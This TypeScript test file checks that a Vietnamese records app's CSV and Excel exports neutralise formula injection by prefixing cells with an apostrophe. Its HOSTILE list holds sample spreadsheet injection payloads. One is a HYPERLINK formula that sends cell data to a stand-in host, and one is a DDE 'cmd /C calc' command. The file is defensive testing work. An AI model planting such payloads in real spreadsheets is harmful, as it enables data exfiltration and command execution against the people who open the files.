import ExcelJS from 'exceljs';
import { PassThrough, Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { buildAcceptanceMinutes } from '../../activities/acceptance';
import { writeAnnotated, PROBLEMS_SHEET } from '../../activities/excel/annotate';
import { neutraliseCell } from '../../contracts/v1/cells';
import { toCsv } from '../../web/src/csv';
import { units } from '../support/fixtures';

/** Text a hostile user typed (a reason, a contractor's name, a cell of a transcription) that a spreadsheet would run. */
const HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1,"Bấm")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

const cellsOf = async (xlsx: Buffer) => {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
  const out: unknown[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => out.push(c.value))));
  return { wb, values: out };
};

describe('formula-looking cells in exports', () => {
  it('are prefixed so spreadsheets keep them as text; numbers and ordinary text stay as they are', () => {
    for (const s of HOSTILE) expect(neutraliseCell(s)).toBe(`'${s}`);
    for (const s of ['-5', '+3,5', '12.5', 'Nguyễn Văn A', '', 'a=b', '0905-123-456']) expect(neutraliseCell(s)).toBe(s);
  });

  it('in the dashboard’s CSV export', () => {
    const csv = toCsv(['Mã sổ', 'Lý do'], HOSTILE.map((s, i) => [i, s]));
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[1]).toBe(`0,"'=HYPERLINK(""http://x.invalid/?""&A1,""Bấm"")"`);
    expect(lines[2]).toBe(`1,'+cmd|' /C calc'!A0`);
    expect(lines[3]).toBe(`2,'-2+3`);
    expect(lines[4]).toBe(`3,'@SUM(A1:A9)`);
    expect(toCsv(['n'], [[-5]])).toContain('\r\n-5\r\n');
  });

  it('in the acceptance minutes (.xlsx): the contractor’s name and the agencies’ names', async () => {
    const xlsx = await buildAcceptanceMinutes({
      province: { code: '49', name: 'Quảng Nam' },
      rows: [{ workflowId: 'reg-20194-KS-01-2017', agencyCode: '20194', agencyName: '=1+2', districtCode: '502', cases: 1, pages: 2, pdfs: 1, imported: 1 }],
      pricePerPage: 100,
      date: '2025-03-12',
      contractor: HOSTILE[0]!,
      districtName: units.districtName,
    });
    const { values } = await cellsOf(xlsx);
    const texts = values.filter((v): v is string => typeof v === 'string');
    expect(texts.some((t) => t.startsWith(`'${HOSTILE[0]}`))).toBe(true);
    expect(texts).toContain("'=1+2");
    expect(texts.filter((t) => /^[=+\-@\t\r]/.test(t))).toEqual([]);
  });

  it('in the annotated copy of a transcription and its list of problems', async () => {
    const src = new ExcelJS.Workbook();
    const ws = src.addWorksheet('KS');
    ws.addRow(['so', 'hoTen']);
    HOSTILE.forEach((s, i) => ws.addRow([String(i + 1), s]));
    const source = Readable.from([Buffer.from(await src.xlsx.writeBuffer())]);
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    const problems = [{ sheet: 'KS', row: 2, cell: 'B2', column: 'hoTen', value: HOSTILE[0]!, code: 'badName', messageVi: 'Họ tên không hợp lệ.', messageEn: 'Bad name.' }];
    await writeAnnotated(source, out, problems as never);
    const { wb } = await cellsOf(Buffer.concat(chunks));
    const copy = wb.getWorksheet('KS')!;
    // The reader trims a cell's surrounding blanks (a leading tab too) before the copy is written.
    expect(HOSTILE.map((_, i) => copy.getRow(i + 2).getCell(2).value)).toEqual(HOSTILE.map((s) => `'${s.trim()}`));
    expect(wb.getWorksheet(PROBLEMS_SHEET)!.getRow(2).getCell(5).value).toBe(`'${HOSTILE[0]}`);
  });
});
